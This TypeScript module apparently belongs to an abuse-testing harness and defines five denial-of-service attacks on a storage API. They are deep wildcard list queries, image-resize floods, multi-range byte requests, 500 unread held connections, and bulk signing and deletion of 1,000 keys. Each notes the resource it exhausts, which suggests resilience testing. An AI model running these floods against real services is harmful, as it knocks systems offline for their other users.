/** Lists, searches, downloads and images. */
import type { Attack, AttackContext } from '../../attacker/attack.ts';
import { holdConnections, rawHead } from '../../attacker/connections.ts';
import { flood } from '../../attacker/http.ts';

const PICTURE = '/storage/v1/object/public/pictures/large.png';

/** Lists deep folders. */
export const deepLists: Attack = {
  name: 'storage/deep-lists',
  description: 'lists and searches below 40 folders among 20,000 objects, by 5 accounts, 50 at once',
  cost: 'PostgreSQL: reading and ordering many rows',
  run: (context) => {
    const deep = `deep/${'a/'.repeat(40)}`;
    const bodies = [
      [
        'list',
        { prefix: deep, limit: 1000, search: '%_%a%', sortBy: { column: 'updated_at', order: 'desc' } },
      ],
      ['list', { prefix: 'deep/a', limit: 1000, offset: 10_000, search: '%'.repeat(500) }],
      ['list-v2', { prefix: 'deep/', limit: 1000, sortBy: { column: 'created_at', order: 'desc' } }],
      ['list-v2', { prefix: 'deep/', limit: 1000, with_delimiter: true }],
    ] as const;
    return flood(context, {
      sockets: 50,
      request: (index) => {
        const [kind, body] = bodies[index % bodies.length] ?? bodies[0];
        const headers = jsonHeaders(context, index);
        return { path: `/storage/v1/object/${kind}/abuse`, headers, body: JSON.stringify(body) };
      },
    });
  },
};

/** Requests one large picture in many sizes. */
export const imageFlood: Attack = {
  name: 'storage/images',
  description: 'a PNG of 36 megapixels in a new size and format each time, 50 at once',
  cost: 'processor and memory of two image processes; all other clients wait for them',
  run: (context) =>
    flood(context, {
      sockets: 50,
      request: (index) => ({
        path: `/storage/v1/render/image/public/pictures/large.png?width=${100 + (index % 1900)}&quality=${20 + (index % 80)}`,
        headers: { accept: index % 2 === 0 ? 'image/avif' : 'image/webp' },
      }),
    }),
};

/** Requests the head, single bytes, and long lists of ranges of an object. */
export const rangeFlood: Attack = {
  name: 'storage/ranges',
  description: 'HEAD, single bytes and lists of 1,000 ranges of a public object, 50 at once',
  cost: 'a query and an open file per request',
  run: (context) => {
    const many = Array.from({ length: 1000 }, (_, index) => `${index * 2}-${index * 2}`).join(',');
    return flood(context, {
      sockets: 50,
      request: (index) =>
        index % 3 === 0
          ? { method: 'HEAD', path: PICTURE }
          : {
              path: PICTURE,
              headers: { range: index % 3 === 1 ? `bytes=${index}-${index}` : `bytes=${many}` },
            },
    });
  },
};

/** Requests downloads without reading them. */
export const unreadDownloads: Attack = {
  name: 'storage/unread-downloads',
  description: '500 downloads of a public object that read nothing',
  cost: 'an open file and buffers each',
  run: (context) =>
    holdConnections(context, {
      connections: 500,
      reads: false,
      first: () => `${rawHead('GET', PICTURE)}\r\n`,
    }),
};

/** Requests signed links and deletions in bulk. */
export const bulkFlood: Attack = {
  name: 'storage/bulk',
  description: '1,000 links or deletions of 1,000 keys per request, by 5 accounts, 10 at once',
  cost: 'event loop: signing 1,000 tokens; PostgreSQL',
  run: (context) => {
    const paths = Array.from({ length: 1000 }, (_, index) => `missing/${index}`);
    return flood(context, {
      sockets: 10,
      request: (index) =>
        index % 2 === 0
          ? {
              path: '/storage/v1/object/sign/abuse',
              headers: jsonHeaders(context, index),
              body: JSON.stringify({ expiresIn: 60, paths }),
            }
          : {
              method: 'DELETE',
              path: '/storage/v1/object/abuse',
              headers: jsonHeaders(context, index),
              body: JSON.stringify({ prefixes: paths }),
            },
    });
  },
};

function jsonHeaders(context: AttackContext, index: number): Record<string, string> {
  const token = context.accounts[index % context.accounts.length]?.accessToken;
  return { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
}
